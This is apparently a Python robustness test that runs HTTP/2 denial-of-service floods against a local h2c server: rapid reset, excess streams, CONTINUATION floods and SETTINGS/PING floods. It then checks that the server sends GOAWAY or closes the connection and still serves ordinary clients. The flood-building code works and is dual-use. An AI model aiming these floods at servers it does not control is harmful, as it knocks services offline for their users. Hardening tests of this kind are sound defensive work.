#!/usr/bin/python3
"""HTTP/2 abuse against gatehouse serve's h2c (prior knowledge) listener, with raw sockets and
frames made by hyperframe (responses decoded with hpack), the well-behaved client made with h2.

Attacks: rapid reset (HEADERS then RST_STREAM, CVE-2023-44487); more streams than
MAX_CONCURRENT_STREAMS; CONTINUATION floods (CVE-2024-28182), with headers in the frames and
with empty frames; SETTINGS and PING floods from a client that does not read its socket and from
one that does. For each: the server sends GOAWAY or closes within BOUND seconds of the end of the
flood (and closes), and a well-behaved connection opened before the attack, as well as a fresh
one opened after it, still get 200 for foo.org /a. (Too many streams may instead be answered by
refusing the extra ones, RST_STREAM REFUSED_STREAM.)

usage: /usr/bin/python3 h2_abuse_test.py HOST PORT   (a serve with the foobar manifest)
Prints one ok:/FAIL: line per check; exits 1 on any failure.
"""
import collections
import os
import select
import signal
import socket
import sys
import threading
import time

import hpack
from hyperframe.frame import (ContinuationFrame, HeadersFrame, PingFrame, RstStreamFrame,
                              SettingsFrame, WindowUpdateFrame)

from checks import check, fail, summary
from h2_client import Client, hpack_int, literal, request_block

HOST, PORT = sys.argv[1], int(sys.argv[2])
PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
BOUND = 5.0          # seconds for the server to react after a flood ends
OP_TIMEOUT = 5.0     # every socket operation
GOAWAY, RST_STREAM, HEADERS, CONTINUATION, SETTINGS = 0x7, 0x3, 0x1, 0x9, 0x4
ERRORS = {0x0: 'NO_ERROR', 0x1: 'PROTOCOL_ERROR', 0x2: 'INTERNAL_ERROR', 0x3: 'FLOW_CONTROL_ERROR',
          0x5: 'STREAM_CLOSED', 0x6: 'FRAME_SIZE_ERROR', 0x7: 'REFUSED_STREAM', 0x8: 'CANCEL',
          0x9: 'COMPRESSION_ERROR', 0xb: 'ENHANCE_YOUR_CALM'}

def watchdog(signum, frame):
    print('FAIL: the whole script took more than 100 s', flush=True)
    os._exit(1)


class Raw:
    """A raw h2c connection: frames out as bytes (hyperframe), frames in parsed as they come
    (by a reader thread once start_reader() is called)."""

    def __init__(self, rcvbuf=None):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.settimeout(OP_TIMEOUT)
        self.sock.connect((HOST, PORT))
        self.buf = bytearray()
        self.counts = collections.Counter()
        self.goaway = None        # (last stream id, error code, debug data)
        self.goaway_at = None
        self.closed_at = None     # EOF or reset seen, or a send failed
        self.closed_how = None
        self.rst = {}             # stream id -> error code
        self.status = {}          # stream id -> :status
        self.settings = None      # the server's first SETTINGS, {id: value}
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 20
        self.partial = {}         # stream id -> header block being continued
        self.read_done = False    # the read side saw EOF or an error
        self.stop = False
        self.reader = None

    # --- in ---
    def mark_closed(self, how):
        if self.closed_at is None:
            self.closed_at = time.monotonic()
            self.closed_how = how

    def read_once(self, wait):
        """One recv when readable within `wait` seconds; False once the read side is over."""
        if self.read_done:
            return False
        try:
            readable, _, _ = select.select([self.sock], [], [], wait)
            if not readable:
                return True
            data = self.sock.recv(1 << 18)
        except socket.timeout:
            return True
        except OSError as e:  # ECONNRESET mostly
            self.mark_closed('recv: %s' % e)
            self.read_done = True
            return False
        if not data:
            self.mark_closed('EOF')
            self.read_done = True
            return False
        self.feed(data)
        return True

    def feed(self, data):
        self.buf += data
        pos = 0
        while len(self.buf) - pos >= 9:
            n = int.from_bytes(self.buf[pos:pos + 3], 'big')
            if len(self.buf) - pos < 9 + n:
                break
            kind, flags = self.buf[pos + 3], self.buf[pos + 4]
            sid = int.from_bytes(self.buf[pos + 5:pos + 9], 'big') & 0x7fffffff
            self.frame(kind, flags, sid, bytes(self.buf[pos + 9:pos + 9 + n]))
            pos += 9 + n
        del self.buf[:pos]

    def frame(self, kind, flags, sid, payload):
        self.counts[kind] += 1
        if kind == GOAWAY and self.goaway is None and len(payload) >= 8:
            self.goaway = (int.from_bytes(payload[:4], 'big') & 0x7fffffff,
                           int.from_bytes(payload[4:8], 'big'), payload[8:100])
            self.goaway_at = time.monotonic()
        elif kind == RST_STREAM and len(payload) >= 4:
            self.rst[sid] = int.from_bytes(payload[:4], 'big')
        elif kind == SETTINGS and not flags & 0x1 and self.settings is None:
            self.settings = {int.from_bytes(payload[i:i + 2], 'big'):
                             int.from_bytes(payload[i + 2:i + 6], 'big')
                             for i in range(0, len(payload) - 5, 6)}
        elif kind in (HEADERS, CONTINUATION):
            block = payload
            if kind == HEADERS:
                if flags & 0x8:  # PADDED
                    block = block[1:len(block) - block[0]]
                if flags & 0x20:  # PRIORITY
                    block = block[5:]
                self.partial[sid] = block
            else:
                self.partial[sid] = self.partial.get(sid, b'') + block
            if flags & 0x4:  # END_HEADERS
                try:
                    headers = self.decoder.decode(self.partial.pop(sid))
                    for name, value in headers:
                        if name == ':status':
                            self.status.setdefault(sid, value)
                except Exception as e:  # a decoding problem is reported, not fatal
                    self.status.setdefault(sid, 'undecodable: %r' % e)

    def start_reader(self):
        def loop():
            while not self.stop and self.read_once(0.1):
                pass
        self.reader = threading.Thread(target=loop, daemon=True)
        self.reader.start()

    def over(self):
        return self.goaway is not None or self.closed_at is not None

    def peer_gone(self):
        """Whether the server closed (FIN or RST), seen in the TCP state without reading."""
        try:
            state = self.sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0]
        except OSError:
            return True
        if state != 1:  # TCP_ESTABLISHED; CLOSE_WAIT (8) after a FIN, CLOSE (7) after a RST
            self.mark_closed('TCP state %d, seen without reading' % state)
            return True
        return False

    # --- out ---
    def send(self, data):
        """sendall; returns None, or why the data did not all go out."""
        try:
            self.sock.sendall(data)
            return None
        except socket.timeout:
            return 'stalled: the server read nothing for %.0f s' % OP_TIMEOUT
        except OSError as e:  # EPIPE, ECONNRESET: the server closed
            self.mark_closed('send: %s' % e)
            return 'send failed: %s' % e

    def handshake(self):
        """Preface, our SETTINGS (large stream windows, so no WINDOW_UPDATE is ever needed), a
        large connection window; waits for the server's SETTINGS and acknowledges it."""
        ours = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 2 ** 31 - 1,
                                          SettingsFrame.ENABLE_PUSH: 0})
        self.send(PREFACE + ours.serialize() +
                  WindowUpdateFrame(0, window_increment=2 ** 31 - 1 - 65535).serialize())
        deadline = time.monotonic() + OP_TIMEOUT
        while self.settings is None and time.monotonic() < deadline and self.read_once(0.1):
            pass
        if self.settings is None:
            raise ConnectionError('no SETTINGS from the server (%s)' % self.closed_how)
        self.send(SettingsFrame(0, flags=['ACK']).serialize())

    def wait(self, predicate, seconds):
        deadline = time.monotonic() + seconds
        while not predicate() and time.monotonic() < deadline:
            time.sleep(0.02)
        return predicate()

    def close(self):
        self.stop = True
        if self.reader:
            self.reader.join(2)
        try:
            self.sock.close()
        except OSError:
            pass

    def describe(self):
        parts = []
        if self.goaway:
            last, code, debug = self.goaway
            parts.append('GOAWAY %s (0x%x) last_stream_id=%d%s' % (
                ERRORS.get(code, '?'), code, last, ' debug=%r' % debug if debug else ''))
        if self.closed_at is not None:
            parts.append('closed (%s)' % self.closed_how)
        return ', '.join(parts) or 'neither GOAWAY nor close'


def Good():
    return Client(HOST, PORT, OP_TIMEOUT)


def served(what, good=None):
    """Checks that GET foo.org /a gets 200 from foo-a, on `good` or on a fresh connection."""
    fresh = good is None
    try:
        good = good or Good()
        status, body = good.get()
        check(status == '200' and body.startswith(b'name=foo-a'), what,
              'status %s, body %r' % (status, body[:40]))
    except Exception as e:
        fail('%s: %r' % (what, e))
    finally:
        if fresh and good:
            good.close()


def flood(raw, chunks, max_seconds=15):
    """Sends the chunks while the connection lasts; returns how the flood ended."""
    start = time.monotonic()
    sent = 0
    for chunk in chunks:
        if raw.closed_at is not None:
            return 'stopped after %d bytes: the server closed' % sent
        if time.monotonic() - start > max_seconds:
            return 'stopped after %d bytes: %d s' % (sent, max_seconds)
        why = raw.send(chunk)
        if why:
            return '%s, after %d bytes' % (why, sent)
        sent += len(chunk)
    return 'all %d bytes sent in %.2f s' % (sent, time.monotonic() - start)


def batches(frame_bytes, count, per_batch=4096):
    """`count` copies of frame_bytes (bytes, or a function of the index) in batches."""
    for first in range(0, count, per_batch):
        last = min(count, first + per_batch)
        if callable(frame_bytes):
            yield b''.join(frame_bytes(i) for i in range(first, last))
        else:
            yield frame_bytes * (last - first)


def served_beside(name):
    """A well-behaved connection, served once, to open before an attack; None if it failed."""
    try:
        beside = Good()
        beside.get()
        return beside
    except Exception as e:
        fail('%s: the connection beside could not be served before the attack: %r' % (name, e))
        return None


def attack(name, make_chunks, reading=True, rcvbuf=None):
    """Runs one flood on a raw connection, next to a well-behaved connection opened before it.
    Checks GOAWAY or close within BOUND s of the end of the flood, the close itself, and that the
    connection beside it and a fresh one are served. A client that does not read keeps not
    reading for BOUND s (the close is seen in the TCP state), then reads what was sent to it."""
    print('--- %s' % name, flush=True)
    beside = served_beside(name)
    try:
        raw = Raw(rcvbuf)
        raw.handshake()
    except Exception as e:
        fail('%s: handshake of the attacking connection: %r' % (name, e))
        return
    if reading:
        raw.start_reader()
    how = flood(raw, make_chunks())
    end = time.monotonic()
    if not reading:
        raw.wait(lambda: raw.closed_at is not None or raw.peer_gone(), BOUND)
        raw.start_reader()  # now read what is queued (ACKs, perhaps a GOAWAY), for the report
        raw.wait(lambda: raw.read_done, 1)
    raw.wait(raw.over, BOUND - (time.monotonic() - end))
    reacted = raw.over()
    raw.wait(lambda: raw.read_done, 1)  # a GOAWAY still in the receive buffer, for the report
    first = min(t for t in (raw.goaway_at, raw.closed_at) if t is not None) if reacted else None
    detail = '%s; flood: %s; %s' % (
        raw.describe(), how,
        'reaction %.2f s after the flood ended' % (first - end) if first else 'nothing in %.0f s' % BOUND)
    if reading:
        check(reacted and first - end <= BOUND, '%s: GOAWAY or close within %.0f s' % (name, BOUND),
              detail)
    else:
        closed = raw.closed_at is not None and raw.closed_at - end <= BOUND
        check(closed, '%s: closed within %.0f s while the client does not read' % (name, BOUND),
              detail)
    raw.wait(lambda: raw.closed_at is not None, BOUND - (time.monotonic() - end))
    check(raw.closed_at is not None, '%s: the connection is closed within %.0f s' % (name, BOUND),
          'frames received by type: %s' % dict(raw.counts))
    raw.close()
    if beside:
        served('%s: the connection opened beside it is still served' % name, beside)
        beside.close()
    served('%s: a fresh connection is served' % name)


def too_many_streams():
    """150 requests at once for a response delayed 2 s: beyond MAX_CONCURRENT_STREAMS (100) they
    must be refused (RST_STREAM REFUSED_STREAM; PROTOCOL_ERROR is allowed by RFC 9113 §5.1.2),
    or the connection gets GOAWAY; the first 100 are answered."""
    name = 'more than 100 concurrent streams'
    print('--- %s' % name, flush=True)
    beside = served_beside(name)
    try:
        raw = Raw()
        raw.handshake()
    except Exception as e:
        fail('%s: handshake: %r' % (name, e))
        return
    advertised = raw.settings.get(SettingsFrame.MAX_CONCURRENT_STREAMS)
    check(advertised == 100, '%s: the server advertises MAX_CONCURRENT_STREAMS 100' % name,
          'SETTINGS %r' % raw.settings)
    raw.start_reader()
    block = request_block(path=b'/a/delay/2000')
    ids = [2 * i + 1 for i in range(150)]
    how = flood(raw, [b''.join(HeadersFrame(sid, data=block, flags=['END_HEADERS', 'END_STREAM'])
                               .serialize() for sid in ids)])
    finished = lambda: raw.over() or all(s in raw.status or s in raw.rst for s in ids)
    raw.wait(finished, 8)
    extra, within = ids[100:], ids[:100]
    refused = {s: raw.rst[s] for s in ids if raw.rst.get(s) in (0x7, 0x1)}
    answered = [s for s in within if raw.status.get(s) == '200']
    detail = '%d refused (%s), %d of the first 100 answered 200, %s; flood: %s' % (
        len(refused), ','.join(sorted({ERRORS.get(c, hex(c)) for c in refused.values()})),
        len(answered), raw.describe(), how)
    check(raw.over() or all(s in refused for s in extra),
          '%s: the 50 extra streams are refused or the connection gets GOAWAY' % name, detail)
    if not raw.over():
        check(len(answered) == 100 and not any(s in refused for s in within),
              '%s: the 100 streams within the limit are answered 200' % name, detail)
    raw.close()
    if beside:
        served('%s: the connection opened beside it is still served' % name, beside)
        beside.close()
    served('%s: a fresh connection is served' % name)


def main():
    signal.signal(signal.SIGALRM, watchdog)
    signal.alarm(100)
    served('before any attack: GET foo.org /a over h2c')

    # Rapid reset: HEADERS (a complete GET) then RST_STREAM CANCEL, 20,000 times.
    block = request_block()
    reset_pair = lambda i: (HeadersFrame(2 * i + 1, data=block, flags=['END_HEADERS', 'END_STREAM'])
                            .serialize() + RstStreamFrame(2 * i + 1, error_code=0x8).serialize())
    attack('rapid reset (CVE-2023-44487)', lambda: batches(reset_pair, 20000, 1000))

    too_many_streams()

    # CONTINUATION flood: a HEADERS without END_HEADERS, then 10,000 CONTINUATIONs each carrying
    # one more 100-byte header (1 MB of header block), END_HEADERS never sent.
    def continuation_with_headers():
        yield HeadersFrame(1, data=block, flags=['END_STREAM']).serialize()
        field = lambda i: literal(b'x-flood-%d' % i, b'v' * 100)
        yield from batches(lambda i: ContinuationFrame(1, data=field(i)).serialize(), 10000, 500)
    attack('CONTINUATION flood, headers in every frame (CVE-2024-28182)', continuation_with_headers)

    # The same with empty CONTINUATION frames: no header bytes at all, 50,000 frames.
    def continuation_empty():
        yield HeadersFrame(1, data=block, flags=['END_STREAM']).serialize()
        yield from batches(ContinuationFrame(1, data=b'').serialize(), 50000)
    attack('CONTINUATION flood, empty frames', continuation_empty)

    settings = SettingsFrame(0).serialize()
    ping = PingFrame(0, opaque_data=b'gatehous').serialize()
    # Floods of frames the server must acknowledge. The client that does not read has a 4 KiB
    # receive buffer and sends 300,000 frames, so that the acknowledgements (2.7 and 5.1 MB) fill
    # the server's send buffer (4 MiB at most) and back up in the server; the reading one 100,000.
    attack('SETTINGS flood, client not reading', lambda: batches(settings, 300000),
           reading=False, rcvbuf=4096)
    attack('SETTINGS flood, client reading', lambda: batches(settings, 100000))
    attack('PING flood, client not reading', lambda: batches(ping, 300000),
           reading=False, rcvbuf=4096)
    attack('PING flood, client reading', lambda: batches(ping, 100000))

    served('after all the attacks: GET foo.org /a over h2c')
    sys.exit(summary())


if __name__ == '__main__':
    main()
